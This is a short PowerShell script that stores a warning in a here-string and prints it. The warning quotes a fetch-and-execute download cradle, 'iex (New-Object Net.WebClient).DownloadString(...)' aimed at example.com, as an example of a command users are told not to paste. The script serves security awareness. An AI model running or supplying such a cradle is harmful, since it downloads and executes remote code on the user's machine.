# description: Stores a download-cradle example in a here-string and writes it as a warning; the text is never invoked.
$warning = @'
Do not paste commands like:
  iex (New-Object Net.WebClient).DownloadString('http://example.com/x.ps1')
Report them to security instead.
'@
Write-Warning $warning
